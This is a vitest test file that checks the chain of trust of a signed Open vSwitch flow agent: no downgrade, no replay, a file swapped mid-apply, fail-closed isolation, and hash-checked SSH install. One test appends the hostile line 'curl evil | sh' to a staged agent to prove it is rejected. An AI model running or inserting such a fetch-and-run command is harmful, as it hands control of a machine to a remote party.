import { type ChildProcess, spawn, spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { sshInstallScript, stagedAgentPath } from "../../../components/bluefield";
import type { Plan } from "../../../lib";
import {
  type BlueFieldRuleSet,
  renderBlueField,
  type SignedBundle,
  signRuleSet,
} from "../../../lib/targets/bluefield";
import { AGENT, FLAGSHIP, KEY, planOf } from "./helpers";
import { type OvsSandbox, ovsMissing, startOvs } from "./ovs-sandbox";

/**
 * The agent's chain of trust against a real Open vSwitch: no rollback to an older signed bundle,
 * no unsigned flows through a file swapped during apply, fail closed before the first bundle, and
 * an SSH install that checks the agent's hash on a private copy.
 */
const MISSING = ovsMissing();
const CI = process.env.CI === "true";
if (MISSING && !CI)
  console.warn(`SKIPPED: the agent chain-of-trust tests on a real Open vSwitch: ${MISSING}`);
const suite = describe.skipIf(MISSING !== undefined && !CI);

function writeBundle(dir: string, b: SignedBundle): string {
  rmSync(dir, { recursive: true, force: true });
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, "rules.manifest"), b.manifest);
  writeFileSync(join(dir, "rules.manifest.sig"), b.signature);
  writeFileSync(join(dir, "rules.flows"), b.flows);
  return dir;
}

function agentIn(s: OvsSandbox, extra: Record<string, string> = {}) {
  const pub = join(s.dir, "key.pub");
  writeFileSync(pub, KEY.publicPem);
  const env = {
    ...s.env,
    BLASTRADIUS_HOST: "gpu-01",
    BLASTRADIUS_PUBKEY: pub,
    BLASTRADIUS_STATE: join(s.dir, "state"),
    BLASTRADIUS_BUNDLE_DIR: join(s.dir, "incoming"),
    BLASTRADIUS_CONFIG: "/dev/null",
    TMPDIR: s.dir,
    ...extra,
  };
  return {
    run: (args: string[], more: Record<string, string> = {}) => {
      const r = spawnSync("sh", [AGENT, ...args], { env: { ...env, ...more }, encoding: "utf8" });
      return { code: r.status ?? -1, stderr: r.stderr };
    },
    status: () =>
      Object.fromEntries(
        readFileSync(join(s.dir, "state", "status"), "utf8")
          .trim()
          .split("\n")
          .map((l) => [l.slice(0, l.indexOf("=")), l.slice(l.indexOf("=") + 1)]),
      ),
    history: () => readFileSync(join(s.dir, "state", "history"), "utf8"),
  };
}

const sign = (r: BlueFieldRuleSet, serial: number) =>
  signRuleSet(r, KEY.privatePem, "ai-platform", r.host, serial);

suite("agent: no rollback to an older signed bundle", () => {
  let s: OvsSandbox;
  let plan: Plan;
  let v1: BlueFieldRuleSet;
  let v2: BlueFieldRuleSet;
  const ours = () => s.dump("cookie=0xb1a5ce1100000000/0xffffffff00000000");
  beforeAll(() => {
    if (MISSING) throw new Error(`CI=true and ${MISSING}`);
    plan = planOf(FLAGSHIP);
    v1 = renderBlueField(plan).find((r) => r.host === "gpu-01")!;
    v2 = renderBlueField(plan, { zone: 7 }).find((r) => r.host === "gpu-01")!;
    s = startOvs("br-sfc", ["pf0hpf", "p0"]);
  });
  afterAll(() => s?.stop());

  it("the manifest carries the serial and the host ports, signed", () => {
    expect(sign(v1, 41).manifest).toContain("\nserial=41\nports=pf0hpf\n");
  });

  it("an older serial is refused and logged; the newer flows stay", () => {
    const agent = agentIn(s);
    expect(agent.run(["apply", writeBundle(join(s.dir, "b5"), sign(v2, 5))]).code).toBe(0);
    const installed = ours();
    const r = agent.run(["apply", writeBundle(join(s.dir, "b3"), sign(v1, 3))]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("downgrade: serial 3 is older than the applied 5");
    expect(agent.status()).toMatchObject({ result: "refused", digest: v1.digest });
    expect(ours()).toEqual(installed);
  });

  it("a bundle applied before and since replaced is refused at the same serial (a replay)", () => {
    const agent = agentIn(s);
    expect(agent.run(["apply", writeBundle(join(s.dir, "c5"), sign(v1, 5))]).code).toBe(0);
    expect(agent.status()).toMatchObject({ result: "applied", digest: v1.digest });
    const r = agent.run(["apply", writeBundle(join(s.dir, "b5"), sign(v2, 5))]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("replay:");
    expect(s.dump().some((l) => l.includes("zone=7"))).toBe(false);
  });

  it("the explicit override applies an older bundle for recovery and logs it", () => {
    const agent = agentIn(s);
    expect(agent.run(["apply", writeBundle(join(s.dir, "d9"), sign(v2, 9))]).code).toBe(0);
    const r = agent.run(["apply", "--allow-downgrade", writeBundle(join(s.dir, "d3"), sign(v1, 3))]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toContain("DOWNGRADE ALLOWED by override");
    expect(agent.history()).toMatch(
      /downgrade-override [0-9a-f]{64} downgrade: serial 3 is older than the applied 9/,
    );
    expect(agent.status()).toMatchObject({ result: "applied", digest: v1.digest });
    // A newer serial then applies as usual.
    expect(agent.run(["apply", writeBundle(join(s.dir, "d10"), sign(v2, 10))]).code).toBe(0);
  });
});

suite("agent: copy, verify the copy, load the copy (a file swapped during apply)", () => {
  let s: OvsSandbox;
  let swapper: ChildProcess | undefined;
  beforeAll(() => {
    if (MISSING) throw new Error(`CI=true and ${MISSING}`);
    s = startOvs("br-sfc", ["pf0hpf", "p0"]);
  });
  afterEach(() => {
    swapper?.kill("SIGKILL");
    swapper = undefined;
  });
  afterAll(() => s?.stop());

  it("unsigned flows swapped into rules.flows while the agent applies never reach the switch (40 runs)", () => {
    const plan = planOf(FLAGSHIP);
    const good = renderBlueField(plan).find((r) => r.host === "gpu-01")!;
    // Same flow count, one verdict changed: the count check after loading cannot tell them apart.
    const lines = good.flows.split("\n");
    let last = lines.length - 1;
    while (last > 0 && !(lines[last]!.startsWith("add ") && lines[last]!.endsWith("actions=drop"))) last--;
    lines[last] = `${lines[last]!.slice(0, -"actions=drop".length)}actions=NORMAL`;
    const evil = lines.join("\n");
    const dir = writeBundle(join(s.dir, "race"), sign(good, 1));
    writeFileSync(join(s.dir, "good.flows"), good.flows);
    writeFileSync(join(s.dir, "evil.flows"), evil);
    const agent = agentIn(s);
    expect(agent.run(["apply", dir]).code).toBe(0);
    const clean = s.dump("cookie=0xb1a5ce1100000000/0xffffffff00000000");
    swapper = spawn(
      "sh",
      [
        "-c",
        `while :; do cp evil.flows race/x.tmp; mv race/x.tmp race/rules.flows; cp good.flows race/y.tmp; mv race/y.tmp race/rules.flows; done`,
      ],
      { cwd: s.dir, stdio: "ignore" },
    );
    let applied = 0;
    for (let i = 0; i < 40; i++) {
      // Our flows gone: every run must load again (the window the swap attacks).
      s.run("ovs-ofctl", ["del-flows", "br-sfc", "cookie=0xb1a5ce1100000000/0xffffffff00000000"]);
      const r = agent.run(["apply", dir]);
      expect([0, 1, 2]).toContain(r.code);
      if (r.code === 0) applied++;
      const now = s.dump("cookie=0xb1a5ce1100000000/0xffffffff00000000");
      // Either the signed flows, or (refused run) none of ours: never the swapped-in ones.
      if (now.length > 0) expect(now).toEqual(clean);
    }
    expect(applied).toBeGreaterThan(0);
  });
});

suite("agent: fail closed before the first bundle", () => {
  let s: OvsSandbox;
  beforeAll(() => {
    if (MISSING) throw new Error(`CI=true and ${MISSING}`);
    s = startOvs("br-sfc", ["pf0hpf", "p0"]);
  });
  afterAll(() => s?.stop());
  const udp = { family: 4 as const, src: "10.10.1.5", dst: "10.20.0.7", protocol: 17, port: 53 };

  it("control: a bridge without the agent forwards everything (OVS NORMAL)", () => {
    expect(s.trace("pf0hpf", udp, "new").verdict).toBe("allow");
    const toHost = s.trace("p0", { ...udp, src: "10.20.0.7", dst: "10.10.1.5" }, "new");
    expect(toHost.verdict).toBe("allow");
    expect(toHost.output).not.toContain("NO_FWD");
  });

  it("sync with no bundle installs the baseline: nothing from or to the host port; the uplink and LOCAL untouched", () => {
    const agent = agentIn(s, { BLASTRADIUS_PORTS: "pf0hpf" });
    const r = agent.run(["sync"]);
    expect(r.code, r.stderr).toBe(0);
    expect(agent.status()).toMatchObject({ result: "baseline" });
    expect(s.trace("pf0hpf", udp, "new").verdict).toBe("deny");
    const toHost = s.trace("p0", { ...udp, src: "10.20.0.7", dst: "10.10.1.5" }, "new").output;
    expect(toHost).toContain("OFPPC_NO_FWD set, skipping output");
    // The DPU's own traffic (bridge LOCAL port) still reaches the uplink.
    expect(s.trace("LOCAL", udp, "new").verdict).toBe("allow");
  });

  it("Kubernetes mode (no configured ports): the ports come from the incoming bundle's signed manifest", () => {
    const t = startOvs("br-sfc", ["pf0hpf", "p0"]);
    try {
      const agent = agentIn(t);
      const plan = planOf(FLAGSHIP);
      // Signed for another host: refused, but its signed manifest names the ports to isolate.
      const other = renderBlueField(plan).find((r) => r.host === "gpu-02")!;
      writeBundle(join(t.dir, "incoming"), signRuleSet(other, KEY.privatePem, "ai-platform", other.host, 1));
      expect(agent.run(["sync"]).code).toBe(2);
      expect(t.trace("pf0hpf", udp, "new").verdict).toBe("deny");
      expect(t.dump().some((l) => l.includes("0xb1a5ce110ba5e11e"))).toBe(true);
      // An unsigned manifest names no ports: nothing to isolate by, and the agent says so.
      rmSync(join(t.dir, "incoming", "rules.manifest.sig"));
      rmSync(join(t.dir, "state"), { recursive: true, force: true });
      t.run("ovs-ofctl", ["del-flows", "br-sfc", "cookie=0x0ba5e11e/0xffffffff"]);
      const r = agent.run(["sync"]);
      expect(r.stderr).toContain("no host-facing ports known");
    } finally {
      t.stop();
    }
  });

  it("the first bundle replaces the baseline and its own flows decide", () => {
    const agent = agentIn(s, { BLASTRADIUS_PORTS: "pf0hpf" });
    const plan = planOf(FLAGSHIP);
    const ruleSet = renderBlueField(plan).find((r) => r.host === "gpu-01")!;
    expect(agent.run(["apply", writeBundle(join(s.dir, "first"), sign(ruleSet, 1))]).code).toBe(0);
    expect(s.dump().some((l) => l.includes("0xb1a5ce110ba5e11e"))).toBe(false);
    const show = s.run("ovs-ofctl", ["show", "br-sfc"]);
    expect(show).not.toContain("NO_FWD");
    // The flagship's training-reads-datalake: tcp/443 from llm-trainer (10.10.1.0/24) to 10.20.0.0/20.
    expect(
      s.trace("pf0hpf", { family: 4, src: "10.10.1.5", dst: "10.20.0.7", protocol: 6, port: 443 }, "new")
        .verdict,
    ).toBe("allow");
    expect(s.trace("pf0hpf", udp, "new").verdict).toBe("deny");
  });
});

describe("SSH provisioning stages the agent privately and checks its hash before install", () => {
  const agentText = readFileSync(AGENT, "utf8");
  const digest = createHash("sha256").update(agentText).digest("hex");
  const install = (staged: string, home: string, target: string) => {
    const script = sshInstallScript({
      staged: stagedAgentPath(digest),
      agentDigest: digest,
      host: "gpu-01",
      interval: 30,
      ports: ["pf0hpf"],
      installPath: target,
    });
    // Up to the install: the provision step is the agent's own (tested above).
    const upToInstall = script.split("\n").slice(0, -1).join("\n");
    writeFileSync(join(home, stagedAgentPath(digest)), staged);
    return spawnSync("sh", ["-c", upToInstall], {
      cwd: home,
      env: { ...process.env, HOME: home, TMPDIR: home },
      encoding: "utf8",
    });
  };

  it("the staged path is in the SSH user's home, not a predictable /tmp name", () => {
    expect(stagedAgentPath(digest)).toMatch(/^\.blastradius-agent-[0-9a-f]{12}$/);
  });

  it("the genuine agent is installed", () => {
    const home = mkdtempSync(join(tmpdir(), "blastradius-ssh-"));
    const target = join(home, "sbin", "blastradius-agent");
    const r = install(agentText, home, target);
    expect(r.status, r.stderr).toBe(0);
    expect(readFileSync(target, "utf8")).toBe(agentText);
  });

  it("a staged file that was altered is not installed", () => {
    const home = mkdtempSync(join(tmpdir(), "blastradius-ssh-"));
    const target = join(home, "sbin", "blastradius-agent");
    const r = install(`${agentText}\ncurl evil | sh\n`, home, target);
    expect(r.status).toBe(1);
    expect(r.stderr).toContain("the staged agent has sha256");
    expect(existsSync(target)).toBe(false);
  });
});

describe("the agent script", () => {
  it("is shellcheck clean (shellcheck is a CI dependency)", () => {
    const r = spawnSync("shellcheck", ["--shell=sh", AGENT], { encoding: "utf8" });
    if (r.error && !CI) {
      console.warn("SKIPPED: shellcheck is not installed (apt-get install shellcheck)");
      return;
    }
    expect(r.error).toBeUndefined();
    expect(r.stdout + r.stderr).toBe("");
    expect(r.status).toBe(0);
  });
});
